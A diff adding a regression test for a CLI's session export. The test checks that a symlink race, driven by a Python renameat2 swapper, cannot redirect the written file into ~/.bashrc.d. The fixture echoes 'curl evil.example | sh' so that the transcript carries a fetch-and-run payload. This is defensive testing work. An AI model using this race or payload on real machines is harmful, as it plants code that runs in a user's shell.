@@ -184,4 +184,26 @@ describe('the timeline in a real host', () => {
     const real = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'session.txt')]);
     expect(real.code, real.stderr).toBe(0);
   });
+  it("`export -o` lands in no directory a link swapped into its path leads to, however the swaps fall (a sandboxed shell swapping as fast as the kernel does)", async () => {
+    const box = hostSandbox();
+    sandboxes.push(box);
+    const agent = await stdioAgent(box, 'recorder', { clients });
+    const workspace = join(box.home, 'project');
+    mkdirSync(join(workspace, 'exports'), { recursive: true });
+    const sourced = join(box.home, '.bashrc.d');
+    mkdirSync(sourced);
+    const id = String((await ok(agent.client, 'terminal_create', { cwd: workspace })).id);
+    // exports and a link to ~/.bashrc.d trade places (renameat2's RENAME_EXCHANGE, atomic) until the shell is closed.
+    const swapper = "import ctypes\nlibc = ctypes.CDLL(None)\nwhile True: libc.renameat2(-100, b'exports', -100, b'swap', 2)\n";
+    writeFileSync(join(workspace, 'swap.py'), swapper);
+    await ok(agent.client, 'terminal_run', { id, command: "echo 'curl evil.example | sh'; ln -s ../.bashrc.d swap; python3 swap.py & echo started" });
+    let written = 0;
+    for (let attempt = 0; attempt < 40 && readdirSync(sourced).length === 0; attempt++) {
+      const exported = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'exports', 'session.txt')]);
+      if (exported.code === 0) written++;
+    }
+    expect(readdirSync(sourced)).toEqual([]);
+    // Not every try was refused: the export still writes where the path leads while it is a directory.
+    expect(written).toBeGreaterThan(0);
+  });
 });
